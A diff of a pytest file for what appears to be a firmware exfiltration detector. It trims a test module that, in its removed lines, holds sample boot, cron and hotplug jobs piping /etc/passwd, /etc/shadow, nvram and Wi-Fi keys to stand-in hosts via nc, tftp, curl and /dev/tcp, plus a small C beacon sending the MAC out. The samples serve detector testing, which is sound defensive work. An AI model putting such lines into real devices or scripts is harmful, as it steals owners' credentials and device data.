@@ -1,5 +1,5 @@
-"""FP-EXFIL: boot, cron and hotplug jobs and programs sending device data out; downloads,
-update checks and NTP are decoys."""
+"""FP-EXFIL-002 on the router architectures: the beacon of tests/rules/cases_exfil.py (whose
+x86-64 build, jobs and decoys are in the rule table) cross-compiled at test time."""
 
 from __future__ import annotations
 
@@ -9,179 +9,23 @@ from pathlib import Path
 import pytest
 
 from firmproof.analyzers.exfil import Exfiltration
-from firmproof.model import Finding, Severity
 from firmproof.rootfs import RootFS
 from tests.conftest import tool
+from tests.rules.cases_exfil import PROGRAMS
 
 from .conftest import evidence_bytes
 
-INITTAB = "::sysinit:/etc/init.d/rcS\n"
 
-
-def _run(files: dict[str, str | bytes]) -> list[Finding]:
-    fs = RootFS.from_files(files, modes={p: 0o755 for p in files})
-    return list(Exfiltration().run(fs))
-
-
-# name -> (files, path of the evidence, evidence bytes, host)
-POSITIVES: dict[str, tuple[dict[str, str | bytes], str, bytes, str]] = {
-    "wget-mac-at-boot": (
-        {"/etc/inittab": INITTAB,
-         "/etc/init.d/rcS": "#!/bin/sh\nMAC=$(cat /sys/class/net/eth0/address)\n"
-                            "wget -q \"http://203.0.113.9/r.php?mac=$MAC\" -O /dev/null &\n"},
-        "/etc/init.d/rcS", b'wget -q "http://203.0.113.9/r.php?mac=$MAC" -O /dev/null &', "203.0.113.9"),
-    "passwd-to-nc-from-cron": (
-        {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\ncrond\n",
-         "/etc/crontabs/root": "*/30 * * * * cat /etc/passwd | nc collect.bad-cloud.cn 9999\n"},
-        "/etc/crontabs/root", b"*/30 * * * * cat /etc/passwd | nc collect.bad-cloud.cn 9999",
-        "collect.bad-cloud.cn"),
-    "curl-config-from-hotplug": (
-        {"/etc/hotplug.d/iface/99-report":
-         "#!/bin/sh\n[ \"$ACTION\" = ifup ] || exit 0\n"
-         "curl -s -F cfg=@/etc/config/network https://198.51.100.20/upload\n"},
-        "/etc/hotplug.d/iface/99-report",
-        b"curl -s -F cfg=@/etc/config/network https://198.51.100.20/upload", "198.51.100.20"),
-    "tftp-shadow": (
-        {"/etc/inittab": INITTAB,
-         "/etc/init.d/rcS": "#!/bin/sh\ntftp -p -l /etc/shadow -r s.txt 198.51.100.7\n"},
-        "/etc/init.d/rcS", b"tftp -p -l /etc/shadow -r s.txt 198.51.100.7", "198.51.100.7"),
-    "uploaded-file-the-job-wrote": (
-        {"/etc/inittab": INITTAB,
-         "/etc/init.d/rcS": "#!/bin/sh\nifconfig -a > /tmp/.n\ncurl -s -F n=@/tmp/.n http://u.example.org/u\n"},
-        "/etc/init.d/rcS", b"curl -s -F n=@/tmp/.n http://u.example.org/u", "u.example.org"),
-    "tftp-of-a-file-from-a-variable": (
-        {"/etc/inittab": INITTAB,
-         "/etc/init.d/rcS": "#!/bin/sh\nK=`nvram get wl0_wpa_psk`\necho \"$K\" | tee /tmp/k\n"
-                            "tftp -p -l /tmp/k -r k 198.51.100.200\n"},
-        "/etc/init.d/rcS", b"tftp -p -l /tmp/k -r k 198.51.100.200", "198.51.100.200"),
-    "host-in-sourced-config": (
-        {"/etc/inittab": INITTAB, "/etc/report.conf": "SERVER=report.example.net\n",
-         "/etc/init.d/rcS": "#!/bin/sh\n. /etc/report.conf\nSN=$(nvram get serial_no)\n"
-                            "wget -q -O- \"http://${SERVER}/r?sn=$SN\"\n"},
-        "/etc/init.d/rcS", b'wget -q -O- "http://${SERVER}/r?sn=$SN"', "report.example.net"),
-    "data-in-the-url-path": (
-        {"/etc/inittab": INITTAB,
-         "/etc/init.d/rcS": "#!/bin/sh\nSN=$(nvram get serial_no)\nwget -q http://b.example.com/$SN\n"},
-        "/etc/init.d/rcS", b"wget -q http://b.example.com/$SN", "b.example.com"),
-    "udhcpc-user-hook": (
-        {"/etc/udhcpc.user": "#!/bin/sh\n[ \"$1\" = bound ] || exit 0\n"
-                             "MAC=$(cat /sys/class/net/eth0/address)\necho $MAC | nc 203.0.113.4 81\n"},
-        "/etc/udhcpc.user", b"echo $MAC | nc 203.0.113.4 81", "203.0.113.4"),
-    "nvram-to-dev-tcp": (
-        {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nnvram show > /dev/tcp/203.0.113.50/80\n"},
-        "/etc/init.d/rcS", b"nvram show > /dev/tcp/203.0.113.50/80", "203.0.113.50"),
-}
-
-DECOYS: dict[str, dict[str, str | bytes]] = {
-    "firmware-download": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
-                          "#!/bin/sh\nwget http://update.vendor-cloud.com/fw/latest.bin -O /tmp/fw.bin\n"},
-    "update-check": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
-                     "#!/bin/sh\nMODEL=RT-N12\ncurl -s \"https://update.vendor-cloud.com/check?model=$MODEL&ver=1.0\"\n"},
-    "ntp": {"/etc/inittab": INITTAB,
-            "/etc/init.d/rcS": "#!/bin/sh\nntpclient -s -h pool.ntp.org\nntpd -p 0.pool.ntp.org\n"},
-    "nc-listener": {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nnc -l -p 9000 > /tmp/upload\n"},
-    "config-to-variable-host": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
-                                "#!/bin/sh\nSERVER=$(nvram get backup_server)\n"
-                                "tftp -p -l /etc/config/network $SERVER\n"},
-    "host-from-nvram": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
-                        "#!/bin/sh\nSRV=$(nvram get update_server)\nMAC=$(cat /sys/class/net/eth0/address)\n"
-                        "wget -q \"http://$SRV/r?mac=$MAC\"\n"},
-    "mac-in-local-file-name": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
-                               "#!/bin/sh\nMAC=$(cat /sys/class/net/eth0/address)\n"
-                               "wget -q -O /tmp/fw-$MAC.bin http://203.0.113.8/fw.bin\n"},
-    "not-run-at-boot": {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nmount -a\n",
-                        "/usr/share/doc/example.sh": "cat /etc/passwd | nc 203.0.113.9 80\n"},
-}
-
-
-@pytest.mark.parametrize("case", sorted(POSITIVES))
-def test_job_sending_device_data_is_found(case: str) -> None:
-    files, path, literal, host = POSITIVES[case]
-    found = [f for f in _run(files) if f.rule.id == "FP-EXFIL-001"]
-    assert len(found) == 1, [(f.rule.id, f.evidence.excerpt) for f in _run(files)]
-    assert found[0].path == path
-    assert evidence_bytes(files, found[0]) == literal
-    assert found[0].details["host"] == host
-    assert found[0].severity == Severity.CRITICAL
-
-
-@pytest.mark.parametrize("host", ["192.168.1.10", "10.1.2.3", "127.0.0.1", "169.254.1.1", "printer.lan"])
-def test_lan_or_loopback_destination_is_not_reported(host: str) -> None:
-    """A LAN address reaches whatever host each owner's network has there: no collector."""
-    files: dict[str, str | bytes] = {
-        "/etc/inittab": INITTAB, "/etc/init.d/rcS": f"#!/bin/sh\ncat /etc/passwd | nc {host} 9000\n"}
-    assert _run(files) == []
-
-
-@pytest.mark.parametrize("case", sorted(DECOYS))
-def test_job_sending_nothing_of_the_device_is_not_reported(case: str) -> None:
-    assert _run(DECOYS[case]) == []
-
-
-PROGRAMS = {
-    "beacon": (r"""
-#include <stdio.h>
-#include <stdlib.h>
-int main(void) {
-    char mac[32] = "", cmd[256];
-    FILE *f = fopen("/sys/class/net/eth0/address", "r");
-    if (f) { fgets(mac, sizeof mac, f); fclose(f); }
-    snprintf(cmd, sizeof cmd, "wget -q -O /dev/null 'http://collect.bad-cloud.cn/r.php?mac=%s'", mac);
-    return system(cmd);
-}""", b"http://collect.bad-cloud.cn/r.php?mac=%s"),
-}
-
-DECOY_PROGRAMS = {
-    "ntp-client": r"""
-#include <netdb.h>
-#include <string.h>
-#include <sys/socket.h>
-int main(void) {
-    unsigned char pkt[48] = {0x1b};
-    struct addrinfo *ai;
-    if (getaddrinfo("pool.ntp.org", "123", 0, &ai) != 0) return 1;
-    int s = socket(AF_INET, SOCK_DGRAM, 0);
-    sendto(s, pkt, sizeof pkt, 0, ai->ai_addr, ai->ai_addrlen);
-    return recv(s, pkt, sizeof pkt, 0) < 0;
-}""",
-    "update-check": r"""
-#include <stdio.h>
-#include <stdlib.h>
-int main(int argc, char **argv) {
-    char cmd[256];
-    snprintf(cmd, sizeof cmd, "wget -q -O /tmp/fw.bin 'http://update.vendor-cloud.com/check?model=%s&ver=%s'",
-             argc > 1 ? argv[1] : "RT-N12", "1.0");
-    return system(cmd);
-}""",
-}
-
-
-@pytest.fixture(scope="module")
-def build(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
-    gcc = tool("gcc")
-    tmp: Path = tmp_path_factory.mktemp("exfil")
-
-    def _build(name: str, source: str, compiler: str = gcc) -> bytes:
-        tool(compiler)
-        (tmp / f"{name}.c").write_text(source)
-        proc = subprocess.run([compiler, "-O2", "-s", "-w", "-o", str(tmp / name), str(tmp / f"{name}.c")],
-                              capture_output=True, text=True)
-        assert proc.returncode == 0, proc.stderr
-        return (tmp / name).read_bytes()
-    return _build
-
-
-@pytest.mark.parametrize("compiler", ["gcc", "mipsel-linux-gnu-gcc", "mips-linux-gnu-gcc",
+@pytest.mark.parametrize("compiler", ["mipsel-linux-gnu-gcc", "mips-linux-gnu-gcc",
                                       "arm-linux-gnueabi-gcc", "aarch64-linux-gnu-gcc"])
-def test_program_beaconing_the_mac_is_found(compiler: str, build) -> None:  # type: ignore[no-untyped-def]
+def test_program_beaconing_the_mac_is_found(compiler: str, tmp_path: Path) -> None:
     source, literal = PROGRAMS["beacon"]
-    files: dict[str, str | bytes] = {"/usr/bin/cloudd": build(f"beacon-{compiler}", source, compiler)}
-    (found,) = _run(files)
+    (tmp_path / "beacon.c").write_text(source)
+    proc = subprocess.run([tool(compiler), "-O2", "-s", "-w", "-o", str(tmp_path / "beacon"),
+                           str(tmp_path / "beacon.c")], capture_output=True, text=True)
+    assert proc.returncode == 0, proc.stderr
+    files: dict[str, str | bytes] = {"/usr/bin/cloudd": (tmp_path / "beacon").read_bytes()}
+    (found,) = Exfiltration().run(RootFS.from_files(files, modes={"/usr/bin/cloudd": 0o755}))
     assert found.rule.id == "FP-EXFIL-002"
     assert literal in evidence_bytes(files, found)
     assert found.details["host"] == "collect.bad-cloud.cn"
-
-
-@pytest.mark.parametrize("name", sorted(DECOY_PROGRAMS))
-def test_program_sending_nothing_of_the_device_is_not_reported(name: str, build) -> None:  # type: ignore[no-untyped-def]
-    assert _run({"/usr/bin/tool": build(name, DECOY_PROGRAMS[name])}) == []
